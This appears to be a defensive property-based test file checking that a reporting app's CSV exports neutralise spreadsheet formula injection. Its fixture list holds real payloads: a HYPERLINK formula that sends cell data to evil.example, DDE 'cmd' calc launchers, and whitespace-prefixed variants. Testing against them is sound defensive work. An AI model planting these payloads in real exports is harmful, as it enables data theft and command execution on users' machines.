"""No CSV reportal writes starts a cell with a formula (=, +, -, @, tab, CR, LF): spreadsheets open every export as
text. One helper (reportal.csvsafe) escapes for all of them; these properties run each export with hostile text."""

from __future__ import annotations

import csv
import hashlib
import io
import itertools
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reportal import csvsafe

FORMULA_STARTS = csvsafe.FORMULA_STARTS
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]
# NUL aside: PostgreSQL stores none, and the API refuses it before any export could see it.
_text = st.text(st.characters(blacklist_characters="\x00"), max_size=30)
hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.tuples(st.sampled_from(FORMULA_STARTS), _text).map("".join),
    _text,
)
_unique = itertools.count()


def assert_no_formula_cells(data: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)
    return rows


@given(st.one_of(hostile_text, st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_safe_cell_never_starts_a_formula_and_is_undone_by_unescape(value):
    cell = csvsafe.safe_cell(value)
    if isinstance(cell, str):
        assert not cell.startswith(FORMULA_STARTS)
        if isinstance(value, str):
            assert csvsafe.unescape_cell(cell) == value
    else:
        assert cell == value  # numbers stay numbers


@pytest.mark.django_db
@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(category=hostile_text, source=hostile_text)
def test_url_list_csv_for_members(client, category, source):
    from reportal.accounts import services as accounts
    from reportal.lists import services as lists

    n = next(_unique)
    _member, key = accounts.create_member(f"isp-{n}", "isp", ["url-list"], licence_accepted=True)
    lists.add_entry(f"https://site-{n}.example/page", category=category[:64], source=source[:200], audit=False)
    lists.publish()
    response = client.get("/api/v1/lists/urls?format=csv", HTTP_X_API_KEY=key)
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    rows = assert_no_formula_cells(data.decode())
    header = rows[0]
    mine = [dict(zip(header, r, strict=True)) for r in rows[1:] if f"site-{n}.example" in r[0]]
    assert csvsafe.unescape_cell(mine[0]["category"]) == category[:64]
    if source:
        assert csvsafe.unescape_cell(mine[0]["source"]) == source[:200]


@pytest.mark.django_db
@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(category=hostile_text, term=hostile_text.filter(lambda t: t.strip() != ""))
def test_keyword_list_csv(category, term):
    from reportal.lists import formats, publishing
    from reportal.lists import services as lists
    from reportal.lists.models import ListKind

    try:
        lists.add_keyword(f"{term}{next(_unique)}"[:200], "en", category=category[:64])
    except Exception as exc:  # a term the list refuses (blank after trimming): not an export question
        pytest.skip(f"keyword refused: {exc}")
    published = lists.publish(ListKind.KEYWORDS)
    out = io.BytesIO()
    formats.render(out, ListKind.KEYWORDS, "csv", published or publishing.latest(ListKind.KEYWORDS))
    assert_no_formula_cells(out.getvalue().decode())


@settings(max_examples=50, deadline=None)
@given(values=st.lists(hostile_text, min_size=6, max_size=6))
def test_case_file_csv(monkeypatch_module, values):
    from reportal.actions import casefile

    record = {
        "reference": values[0],
        "url": "https://a.example/" + values[1],
        "portal": values[2],
        "first_reported_at": datetime(2026, 1, 1, tzinfo=UTC).isoformat(),
        "confirmed_at": "",
        "classification": {"legal_assessment": values[3]},
        "status": "action_taken",
        "traces": [
            {"at": "", "hostname": values[4], "ips": [], "registrar": values[5], "network_abuse_contacts": [values[5]]}
        ],
        "removed_at": "",
    }
    monkeypatch_module.setattr(casefile, "case_record", lambda item: record)
    assert_no_formula_cells(casefile.case_csv([object()]).decode())


@pytest.fixture(scope="module")
def monkeypatch_module():
    with pytest.MonkeyPatch.context() as patch:
        yield patch


@pytest.mark.django_db
@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(classification=hostile_text, note=hostile_text, source=hostile_text)
def test_hash_bank_csv_export_and_its_round_trip(tmp_path, classification, note, source):
    from reportal.hashes import banks, transfer

    n = next(_unique)
    bank = banks.create_bank(f"CSV_BANK_{n}")
    sha = hashlib.sha256(str(n).encode()).hexdigest()
    banks.add_content(
        bank,
        banks.ContentSignals(sha256=sha, classification=classification[:100], note=note[:200], source=source[:50]),
    )
    out = io.StringIO()
    transfer.export_bank(bank, out, file_format="csv")
    rows = assert_no_formula_cells(out.getvalue())
    record = dict(zip(rows[0], rows[1], strict=True))
    assert csvsafe.unescape_cell(record["classification"]) == classification[:100]
    if any(ch in classification + note + source for ch in "\r\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"):
        return  # the importer reads one entry a line: line breaks inside a cell do not round-trip (nor did they)
    path = tmp_path / f"bank-{n}.csv"
    path.write_text(out.getvalue())
    again = banks.create_bank(f"CSV_AGAIN_{n}")
    transfer.import_file(path, again, file_format="csv")
    [copy] = again.contents.all() if hasattr(again, "contents") else again.bankcontent_set.all()
    assert copy.classification == classification[:100]


def test_a_lone_surrogate_becomes_a_replacement_character_so_the_export_stays_utf8() -> None:
    out = io.StringIO()
    csvsafe.writer(out).writerow(["a\ud800b", "=\udfffx"])
    assert out.getvalue().encode("utf-8") == "a\ufffdb,'=\ufffdx\r\n".encode()
